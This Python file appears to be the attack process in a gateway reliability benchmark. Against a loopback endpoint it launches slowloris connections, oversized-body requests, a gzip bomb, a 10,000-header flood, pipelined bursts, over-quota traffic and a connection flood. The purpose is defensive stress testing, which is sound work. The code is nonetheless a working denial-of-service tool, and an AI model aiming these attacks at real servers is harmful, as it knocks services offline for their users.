"""Attack process for the bounded-resources benchmark (RELIABILITY-SECURITY invariant 7).

Runs, all at once, against one partner endpoint, until SIGTERM:

- ``slowloris``: ``--slowloris`` connections held open from ``--sources`` loopback addresses
  (127.0.0.2, 127.0.0.3, ...; each address below the per-source cap of 64). Half never finish their
  TLS handshake: they send a real ClientHello a few bytes at a time. The other half complete
  it with the attacking partner's certificate, then send a request head a header at a time.
  Each connection the gateway ends after a while is opened again at once, so the count stays
  up; one refused at once is tried again after a pause, as slowloris tools pace their opens.
- ``oversized``: requests declaring a 100 MB body, of which 16 KB are sent.
- ``bomb``: a gzip bomb (16 MiB of zeros in 16 KB), ``Content-Encoding: gzip``.
- ``header_flood``: a request head of 10,000 headers.
- ``pipelined``: bursts of signed messages written back to back on one connection, without
  waiting for any answer.
- ``over_quota``: signed messages paced at ``--quota-rate`` on kept-alive connections.
- ``connect_flood``: ``--connect-flood-rate`` new connections a second, each from the next of
  250 addresses (127.0.2.x), sending 512 bytes that are not TLS.

The oversized, bomb and header-flood requests each open their own connection, as the
gateway closes it after refusing them. They and the messages come in turn from
``--attacker-addresses`` addresses (127.0.1.1, ...), the attacking partner's, not the
legitimate partner's 127.0.0.1. Everything authenticated uses the attacking partner's client
certificate. A connection the gateway refuses at accept (a connection cap) counts as
``connect_failed``, or ``closed_by_gateway`` for slowloris. Prints one JSON object twice a
second until killed: per attack, so far, the answers by HTTP status, the connections the
gateway closed, and the failures to connect.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import gzip
import itertools
import os
import ssl
import time
from collections import Counter, defaultdict
from collections.abc import Awaitable, Callable

import orjson
import uvloop

from bench.load_client import SIGNATURE, load_payloads

PATH = "/c2c/v1/messages"
#: slowloris: seconds between the bytes or headers each connection sends
TRICKLE_S = 2.0
#: a slowloris connection the gateway ends sooner than this was refused, not timed out
REFUSED_WITHIN_S = 0.5
#: kept-alive connections sharing the over-quota rate
QUOTA_CONNECTIONS = 2

counts: defaultdict[str, Counter[str]] = defaultdict(Counter)


def head(*lines: str) -> bytes:
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def post_head(length: int, *extra: str) -> bytes:
    return head(
        f"POST {PATH} HTTP/1.1",
        "Host: 127.0.0.1",
        "Content-Type: application/json",
        f"Content-Length: {length}",
        *extra,
    )


async def read_answer(reader: asyncio.StreamReader) -> tuple[int, bool] | None:
    """One HTTP answer's status and whether the gateway closes after it; None if the
    connection ended first."""
    try:
        status_line, *lines = (await reader.readuntil(b"\r\n\r\n")).decode().split("\r\n")
    except (asyncio.IncompleteReadError, ConnectionError):
        return None
    headers = {}
    for line in lines:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    try:
        await reader.readexactly(int(headers.get("content-length", "0")))
    except (asyncio.IncompleteReadError, ConnectionError):
        return None
    return int(status_line.split()[1]), headers.get("connection", "").lower() == "close"


class Attacker:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.host, self.port = args.host, args.port
        self.authenticated = ssl.create_default_context(cafile=args.ca)
        self.authenticated.load_cert_chain(args.cert, args.key)
        self.anonymous = ssl.create_default_context(cafile=args.ca)
        self.payloads = load_payloads(args.payloads, 0, None)
        self.next_payload = itertools.count()
        self.flood_addresses = itertools.count()
        self.own_addresses = itertools.cycle(
            f"127.0.1.{1 + i}" for i in range(args.attacker_addresses)
        )

    def payload(self) -> tuple[bytes, str | None]:
        return self.payloads[next(self.next_payload) % len(self.payloads)]

    async def connect(
        self, source: str | None = None, *, tls: bool = True
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection from ``source``, else from the next of the attacking partner's own
        addresses."""
        return await asyncio.open_connection(
            self.host,
            self.port,
            ssl=self.authenticated if tls else None,
            server_hostname="127.0.0.1" if tls else None,
            local_addr=(source or next(self.own_addresses), 0),
        )

    # --- slowloris ---------------------------------------------------------------------

    def client_hello(self) -> bytes:
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = self.anonymous.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
        with contextlib.suppress(ssl.SSLWantReadError):
            tls.do_handshake()
        return outgoing.read()

    async def slow_connection(self, source: str, handshake: bool) -> None:
        kind = "slowloris_tls" if handshake else "slowloris_hello"
        hello = b"" if handshake else self.client_hello()
        while True:
            try:
                reader, writer = await self.connect(source, tls=handshake)
            except OSError:
                counts[kind]["connect_failed"] += 1
                await asyncio.sleep(TRICKLE_S)
                continue
            counts[kind]["opened"] += 1
            opened = time.monotonic()
            pieces = (
                (f"X-Slow-{i}: 1\r\n".encode() for i in itertools.count())
                if handshake
                else (hello[i : i + 4] for i in range(0, len(hello), 4))
            )
            try:
                if handshake:
                    writer.write(f"POST {PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode())
                for piece in pieces:
                    writer.write(piece)
                    await writer.drain()
                    try:
                        if await asyncio.wait_for(reader.read(65536), TRICKLE_S) == b"":
                            break
                    except TimeoutError:
                        continue
                else:
                    # all of it sent: wait for the gateway to end it
                    while await reader.read(65536):
                        pass
                counts[kind]["closed_by_gateway"] += 1
            except (ConnectionError, ssl.SSLError, RuntimeError):
                # RuntimeError: uvloop's write on a transport the gateway already closed
                counts[kind]["closed_by_gateway"] += 1
            finally:
                writer.close()
            if time.monotonic() - opened < REFUSED_WITHIN_S:
                # Refused at once (a cap): try again later, as slowloris tools do (they open
                # connections at a set rate); a connection flood is an attack of its own.
                counts[kind]["refused_at_once"] += 1
                await asyncio.sleep(TRICKLE_S)

    # --- one request per connection ------------------------------------------------------

    async def one_shot(self, kind: str, data: bytes, answers: int = 1) -> None:
        """A new connection that writes ``data`` (``answers`` requests back to back) and
        reads the answers until they are all in or the gateway closes it."""
        try:
            reader, writer = await self.connect()
        except OSError:
            counts[kind]["connect_failed"] += 1
            return
        try:
            writer.write(data)
            await writer.drain()
            for _ in range(answers):
                answer = await read_answer(reader)
                if answer is None:
                    counts[kind]["closed_without_answer"] += 1
                    break
                counts[kind][str(answer[0])] += 1
        except (ConnectionError, ssl.SSLError, RuntimeError):
            counts[kind]["closed_without_answer"] += 1
        finally:
            writer.close()

    async def at_rate(self, rate: float, send: Callable[[], Awaitable[None]]) -> None:
        """Start ``send()`` ``rate`` times a second, not waiting for them to finish."""
        if rate <= 0:
            return
        tasks: set[asyncio.Task[None]] = set()
        started = time.perf_counter()
        for i in itertools.count():
            due = started + i / rate
            delay = due - time.perf_counter()
            if delay > 0:
                await asyncio.sleep(delay)
            task = asyncio.create_task(send())
            tasks.add(task)
            task.add_done_callback(tasks.discard)

    async def garbage_connection(self) -> None:
        """A connection from a new address each time, sending bytes that are not TLS."""
        kind = "connect_flood"
        source = f"127.0.2.{1 + next(self.flood_addresses) % 250}"
        try:
            reader, writer = await self.connect(source, tls=False)
        except OSError:
            counts[kind]["connect_failed"] += 1
            return
        try:
            writer.write(b"\x00" * 512)
            await writer.drain()
            async with asyncio.timeout(30):
                while await reader.read(65536):
                    pass
            counts[kind]["closed_by_gateway"] += 1
        except (ConnectionError, RuntimeError):
            counts[kind]["closed_by_gateway"] += 1
        except TimeoutError:
            counts[kind]["held_30_s"] += 1
        finally:
            writer.close()

    # --- signed messages ---------------------------------------------------------------

    def signed_request(self) -> bytes:
        body, signature = self.payload()
        return post_head(len(body), f"{SIGNATURE}: {signature}") + body

    async def pipelined_burst(self) -> None:
        burst = self.args.pipeline_burst
        requests = b"".join(self.signed_request() for _ in range(burst))
        await self.one_shot("pipelined", requests, answers=burst)

    async def over_quota(self, connections: int) -> None:
        kind = "over_quota"
        rate = self.args.quota_rate / connections
        while True:
            try:
                reader, writer = await self.connect()
            except OSError:
                counts[kind]["connect_failed"] += 1
                await asyncio.sleep(1)
                continue
            try:
                started = time.perf_counter()
                for i in itertools.count():
                    delay = started + i / rate - time.perf_counter()
                    if delay > 0:
                        await asyncio.sleep(delay)
                    writer.write(self.signed_request())
                    answer = await read_answer(reader)
                    if answer is None:
                        counts[kind]["closed_without_answer"] += 1
                        break
                    counts[kind][str(answer[0])] += 1
                    if answer[1]:
                        break
            except (ConnectionError, ssl.SSLError):
                counts[kind]["closed_without_answer"] += 1
            finally:
                writer.close()

    async def run(self) -> None:
        args = self.args
        sources = [f"127.0.0.{2 + i}" for i in range(args.sources)]
        bomb = gzip.compress(b"\0" * (16 * 1024 * 1024))
        flood = head(
            f"POST {PATH} HTTP/1.1", "Host: 127.0.0.1", *(f"X-H{i}: v" for i in range(10_000))
        )
        oversized = post_head(100_000_000) + b"x" * 16_384
        bomb_request = post_head(len(bomb), "Content-Encoding: gzip") + bomb
        jobs = [
            *(
                self.slow_connection(sources[i % len(sources)], handshake=i % 2 == 1)
                for i in range(args.slowloris)
            ),
            self.at_rate(args.oversized_rate, lambda: self.one_shot("oversized", oversized)),
            self.at_rate(args.bomb_rate, lambda: self.one_shot("bomb", bomb_request)),
            self.at_rate(args.header_flood_rate, lambda: self.one_shot("header_flood", flood)),
            self.at_rate(args.pipeline_rate, self.pipelined_burst),
            self.at_rate(args.connect_flood_rate, self.garbage_connection),
            *(self.over_quota(QUOTA_CONNECTIONS) for _ in range(QUOTA_CONNECTIONS)),
        ]
        await asyncio.gather(*jobs)


async def main_async(args: argparse.Namespace) -> None:
    attacker = Attacker(args)
    attack = asyncio.create_task(attacker.run())
    print("READY", flush=True)
    # The counts so far, twice a second, until killed: a process this busy is ended with
    # SIGKILL, and its last complete line is its report.
    while not attack.done():
        print(orjson.dumps({kind: dict(c) for kind, c in counts.items()}).decode(), flush=True)
        await asyncio.sleep(0.5)
    attack.result()  # the attack itself failed: say why


def main() -> None:
    # The attacker stands for machines elsewhere: its own CPU should not be what slows the
    # gateway and the legitimate partner on this one, so it gets what they leave.
    os.nice(19)
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--cert", required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--payloads", required=True, help="the attacking partner's messages")
    parser.add_argument("--slowloris", type=int, default=1000)
    parser.add_argument("--sources", type=int, default=20)
    parser.add_argument(
        "--attacker-addresses",
        type=int,
        default=4,
        help="addresses the requests (all but slowloris) come from, 127.0.1.1 ...",
    )
    parser.add_argument("--oversized-rate", type=float, default=50.0)
    parser.add_argument("--bomb-rate", type=float, default=50.0)
    parser.add_argument("--header-flood-rate", type=float, default=10.0)
    parser.add_argument("--pipeline-rate", type=float, default=1.0)
    parser.add_argument("--pipeline-burst", type=int, default=50)
    parser.add_argument("--quota-rate", type=float, default=100.0)
    parser.add_argument("--connect-flood-rate", type=float, default=200.0)
    args = parser.parse_args()
    uvloop.run(main_async(args))


if __name__ == "__main__":
    main()
